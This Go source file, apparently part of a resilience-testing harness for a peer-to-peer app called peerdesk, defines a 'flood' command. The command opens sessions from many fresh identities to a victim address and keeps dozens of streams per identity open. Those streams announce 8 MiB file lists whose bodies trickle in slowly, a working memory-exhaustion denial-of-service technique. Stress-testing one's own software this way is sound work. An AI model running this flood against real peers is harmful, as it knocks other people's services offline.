package main

import (
	"context"
	"errors"
	"flag"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"github.com/google/uuid"

	"github.com/peerdesk/peerdesk/transport"
)

func init() {
	register("flood", "hold a peer's memory from fresh identities: many streams and 8 MiB offer file lists (H3)", flood)
}

// flood opens sessions from -identities fresh identities to -victim and,
// on each, keeps -streams requests going at once for -for: push-send
// offers announcing a file list of -offer-bytes whose body trickles in,
// and plain listings. It counts what the victim accepted and refused.
func flood(ctx context.Context, args []string, out report) error {
	fs := flag.NewFlagSet("flood", flag.ContinueOnError)
	victim := fs.String("victim", "", "HOST:PORT")
	identities := fs.Int("identities", 48, "fresh identities")
	streams := fs.Int("streams", 32, "requests kept open per identity")
	offerBytes := fs.Int64("offer-bytes", 8<<20, "announced offer file list size")
	dur := fs.Duration("for", 15*time.Second, "how long to flood")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *victim == "" {
		return errors.New("want -victim HOST:PORT")
	}
	fctx, cancel := context.WithTimeout(ctx, *dur)
	defer cancel()
	var sessions, opened, refused, bodyBytes atomic.Int64
	var wg sync.WaitGroup
	for range *identities {
		ep, _, err := endpoint(ctx, uuid.New(), net.JoinHostPort("0.0.0.0", "0"), nil)
		if err != nil {
			return err
		}
		defer ep.Close()
		info, err := ep.Call(fctx, "", []string{*victim}, "peer.hello", map[string]any{"name": "flood"}, nil)
		if err != nil {
			var re *transport.RemoteError
			if !errors.As(err, &re) {
				refused.Add(1)
				continue
			}
		}
		sessions.Add(1)
		id := info.ID
		for j := range *streams {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for fctx.Err() == nil {
					op, body := "shares.list", any(map[string]any{})
					if j%2 == 0 {
						op, body = "send.offer", map[string]any{"total": 1, "files_bytes": *offerBytes}
					}
					st, err := ep.Open(fctx, id, []string{*victim}, op, body)
					if err != nil {
						refused.Add(1)
						select {
						case <-fctx.Done():
						case <-time.After(100 * time.Millisecond):
						}
						continue
					}
					opened.Add(1)
					if op == "send.offer" {
						// Trickle the file list: as slow as the victim allows.
						n, _ := st.SendBody(fctx, io.LimitReader(slowJunk{}, *offerBytes))
						bodyBytes.Add(n)
					} else {
						_ = st.ReadResponse(op, nil)
					}
					st.Close()
				}
			}()
		}
	}
	wg.Wait()
	out["sessions"], out["streams_opened"], out["refused"], out["offer_body_bytes_sent"] = sessions.Load(), opened.Load(), refused.Load(), bodyBytes.Load()
	return nil
}

// slowJunk yields junk 64 KiB at a time, 10 times a second per reader.
type slowJunk struct{}

func (slowJunk) Read(p []byte) (int, error) {
	time.Sleep(100 * time.Millisecond)
	n := min(len(p), 64<<10)
	for i := range n {
		p[i] = '['
	}
	return n, nil
}
